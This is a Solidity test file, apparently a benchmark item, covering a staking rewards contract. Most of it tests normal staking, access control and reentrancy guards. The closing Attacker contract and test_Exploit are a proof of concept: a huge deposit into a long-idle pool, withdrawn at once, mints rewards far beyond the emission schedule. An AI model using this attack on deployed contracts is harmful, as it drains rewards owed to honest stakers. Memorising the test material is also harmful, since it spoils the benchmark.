// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.7.6;

import "./CoverageRewards.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

// assay-canary-5c37d89f-0f5b-4a2e-93c9-16d2a51a7c8d

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract CoverageToken is ERC20 {
    constructor() ERC20("Coverage", "COV") {
        _mint(msg.sender, 2_000_000 ether);
    }
}

/**
 * A staking token that calls the rewards while it is transferred, and passes a refusal on.
 */
contract CallingToken is ERC20 {
    CoverageRewards private rewards;
    bytes private call_;

    constructor(CoverageRewards rewards_) ERC20("Calling", "CALL") {
        rewards = rewards_;
        _mint(msg.sender, 100 ether);
    }

    function prepare(bytes calldata call__) external {
        call_ = call__;
    }

    function _beforeTokenTransfer(address from, address to, uint256) internal override {
        if (call_.length > 0 && (from == address(rewards) || to == address(rewards))) {
            (bool ok, bytes memory why) = address(rewards).call(call_);
            require(ok, ok ? "" : reason(why));
        }
    }

    function reason(bytes memory why) private pure returns (string memory) {
        assembly {
            why := add(why, 0x44)
        }
        return string(why);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    uint256 internal constant START = 1_608_000_000;
    uint256 internal constant RATE = 0.01 ether;

    CoverageRewards internal rewards;
    CoverageToken internal coverage;
    CoverageToken internal other;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(START);
        rewards = new CoverageRewards(RATE);
        coverage = new CoverageToken();
        other = new CoverageToken();
        rewards.addPool(address(coverage), 60, 1_500_000 ether);
        rewards.addPool(address(other), 40, 1_500_000 ether);
        give(ANA, 15 ether);
        vm.prank(ANA);
        rewards.deposit(address(coverage), 10 ether);
        mallory = new Attacker(rewards, coverage);
        coverage.transfer(address(mallory), 1_000_000 ether);
        // nobody has come to this pool for nearly a week
        vm.warp(START + 6 days);
    }

    function give(address to, uint256 amount) internal {
        coverage.transfer(to, amount);
        vm.prank(to);
        coverage.approve(address(rewards), amount);
    }

    function list(address token) internal pure returns (address[] memory tokens) {
        tokens = new address[](1);
        tokens[0] = token;
    }

    function test_Regular() public {
        address pool = address(coverage);
        RewardToken reward = rewards.rewardToken();
        uint256 earned = (6 days * RATE * 60) / 100;
        require(rewards.claimableReward(pool, ANA) == earned && rewards.numberOfPools() == 2, "claimable");
        vm.prank(ANA);
        rewards.claim(list(pool));
        require(reward.balanceOf(ANA) == earned && reward.totalSupply() == earned, "claimed");

        // a second staker, and the first adds to its stake
        give(BEN, 20 ether);
        vm.prank(BEN);
        rewards.deposit(pool, 15 ether);
        vm.prank(ANA);
        rewards.deposit(pool, 5 ether);
        require(rewards.claimableReward(pool, BEN) == 0 && rewards.claimableReward(pool, ANA) == 0, "fresh");
        vm.warp(START + 6 days + 12 hours);
        earned = (12 hours * RATE * 60) / 100;
        vm.prank(BEN);
        rewards.withdraw(pool, 5 ether);
        require(reward.balanceOf(BEN) == earned / 2 && coverage.balanceOf(BEN) == 9.975 ether, "early, with a fee");
        require(rewards.feesIn(pool) == 0.025 ether && rewards.totalStakedIn(pool) == 25 ether, "books");
        vm.warp(START + 7 days);
        vm.prank(BEN);
        rewards.withdraw(pool, 10 ether);
        require(coverage.balanceOf(BEN) == 19.975 ether, "in time, without one");
        require(reward.balanceOf(BEN) == earned / 2 + (earned * 2) / 5, "two fifths");

        // another emission, other weights
        rewards.changeEmission(2 * RATE);
        require(rewards.scheduledEmission() == 7 days * RATE, "scheduled so far");
        rewards.changePool(pool, 40, 16 ether);
        require(rewards.totalWeight() == 80, "weights");
        uint256 before = rewards.claimableReward(pool, ANA);
        vm.warp(START + 8 days);
        require(rewards.claimableReward(pool, ANA) == before + 1 days * RATE, "half of the double");
        require(rewards.scheduledEmission() == 9 days * RATE, "scheduled");
        rewards.updatePool(pool);
        vm.prank(ANA);
        rewards.withdrawWithoutReward(pool);
        require(coverage.balanceOf(ANA) == 15 ether && rewards.totalStakedIn(pool) == 0, "the stake alone");
        require(rewards.claimableReward(pool, ANA) == 0, "given up");
        coverage.transfer(address(rewards), 1 ether);
        rewards.recoverTokens(pool, address(0x4EC));
        rewards.collectFees(pool, address(0xFEE));
        require(coverage.balanceOf(address(0x4EC)) == 1 ether, "recovered");
        require(coverage.balanceOf(address(0xFEE)) == 0.025 ether && rewards.feesIn(pool) == 0, "fees");

        vm.startPrank(BEN);
        reward.transfer(ANA, 1);
        reward.approve(ANA, 1);
        reward.burn(1);
        vm.stopPrank();
        vm.prank(ANA);
        reward.transferFrom(BEN, ANA, 1);
        vm.startPrank(BEN);
        coverage.approve(address(rewards), 10 ether);
        rewards.deposit(pool, 10 ether);
        rewards.nameRecipient(address(0xD0A));
        vm.warp(START + 10 days);
        rewards.leave(pool);
        vm.stopPrank();
        require(coverage.balanceOf(BEN) == 19.975 ether && reward.balanceOf(address(0xD0A)) == 2 days * RATE, "left");
        rewards.setPaused(true);
        rewards.setPaused(false);
        rewards.transferOwnership(ANA);
        vm.prank(ANA);
        rewards.renounceOwnership();
        require(withinSchedule(), "schedule");
    }

    /// No more rewards than the schedule has had the time for.
    function withinSchedule() public view returns (bool) {
        return rewards.rewardToken().totalSupply() <= rewards.scheduledEmission();
    }

    function test_RefusesStrangers() public {
        RewardToken reward = rewards.rewardToken();
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        rewards.addPool(ANA, 1, 1);
        vm.expectRevert("Ownable: caller is not the owner");
        rewards.changePool(address(coverage), 1, 1);
        vm.expectRevert("Ownable: caller is not the owner");
        rewards.changeEmission(1);
        vm.expectRevert("Ownable: caller is not the owner");
        rewards.setPaused(true);
        vm.expectRevert("Ownable: caller is not the owner");
        rewards.collectFees(address(coverage), ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        rewards.recoverTokens(address(coverage), ANA);
        vm.expectRevert("Only the distributor can create tokens");
        reward.mint(ANA, 1);
        vm.stopPrank();
    }

    function test_RefusesPools() public {
        vm.expectRevert("A staking token can have one pool only");
        rewards.addPool(address(coverage), 1, 1);
        vm.expectRevert("There is no pool for this token");
        rewards.changePool(address(this), 1, 1);
        vm.expectRevert("There is no pool for this token");
        rewards.updatePool(address(this));
        vm.expectRevert("The weight must not exceed its maximum");
        rewards.changePool(address(coverage), 1e9 + 1, 1);
        vm.expectRevert("The limit must not exceed its maximum");
        rewards.changePool(address(coverage), 1, 2**96);
        rewards.changePool(address(other), 0, 1);
        vm.expectRevert("The sum of the weights must be positive");
        rewards.changePool(address(coverage), 0, 1);
        vm.expectRevert("The emission must not exceed its maximum");
        rewards.changeEmission(1e18 + 1);
        for (uint256 i = 0; i < 30; i++) rewards.addPool(address(0x1000 + i), 1, 1);
        vm.expectRevert("There are too many pools");
        rewards.addPool(address(0x2000), 1, 1);
    }

    function test_RefusesStakes() public {
        vm.startPrank(ANA);
        vm.expectRevert("The amount of a deposit must be positive");
        rewards.deposit(address(coverage), 0);
        vm.expectRevert("The stake is smaller than the amount");
        rewards.withdraw(address(coverage), 10 ether + 1);
        vm.expectRevert("There is no pool for this token");
        rewards.deposit(address(this), 1);
        vm.expectRevert("There is no pool for this token");
        rewards.withdrawWithoutReward(address(this));
        vm.expectRevert();
        rewards.deposit(address(coverage), 5 ether + 1);
        vm.stopPrank();
        rewards.changePool(address(coverage), 60, 12 ether);
        vm.prank(ANA);
        vm.expectRevert("The pool takes no more deposits");
        rewards.deposit(address(coverage), 2 ether + 1);
        rewards.setPaused(true);
        vm.prank(ANA);
        vm.expectRevert("Pausable: paused");
        rewards.deposit(address(coverage), 1 ether);
    }

    function test_RefusesCallbacks() public {
        CallingToken token = new CallingToken(rewards);
        rewards.addPool(address(token), 1, 100 ether);
        token.approve(address(rewards), 100 ether);
        rewards.deposit(address(token), 10 ether);
        bytes memory locked = "ReentrancyGuard: reentrant call";
        token.prepare(abi.encodeWithSelector(rewards.claim.selector, new address[](0)));
        vm.expectRevert(locked);
        rewards.deposit(address(token), 1 ether);
        vm.expectRevert(locked);
        rewards.withdraw(address(token), 1 ether);
        vm.expectRevert(locked);
        rewards.withdrawWithoutReward(address(token));
        vm.expectRevert(locked);
        rewards.leave(address(token));
        token.prepare(abi.encodeWithSelector(rewards.leave.selector, address(token)));
        vm.expectRevert(locked);
        rewards.deposit(address(token), 1 ether);
        token.prepare(abi.encodeWithSelector(rewards.withdraw.selector, address(token), 0));
        vm.expectRevert(locked);
        rewards.deposit(address(token), 1 ether);
        token.prepare(abi.encodeWithSelector(rewards.withdrawWithoutReward.selector, address(token)));
        vm.expectRevert(locked);
        rewards.deposit(address(token), 1 ether);
        token.prepare(abi.encodeWithSelector(rewards.deposit.selector, address(token), 1));
        vm.expectRevert(locked);
        rewards.withdraw(address(token), 1 ether);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        require(withinSchedule(), "before");
        exploit();
        require(!withinSchedule(), "still within the schedule");
        require(rewards.rewardToken().balanceOf(address(mallory)) > 100_000_000 ether, "gain");
        require(coverage.balanceOf(address(mallory)) == 995_000 ether, "stake");
    }

    function target() public view returns (address) {
        return address(rewards);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CoverageRewards internal rewards;
    CoverageToken internal coverage;

    constructor(CoverageRewards rewards_, CoverageToken coverage_) {
        rewards = rewards_;
        coverage = coverage_;
    }

    function run() external {
        uint256 amount = coverage.balanceOf(address(this));
        coverage.approve(address(rewards), amount);
        rewards.deposit(address(coverage), amount);
        rewards.withdraw(address(coverage), amount);
    }
}
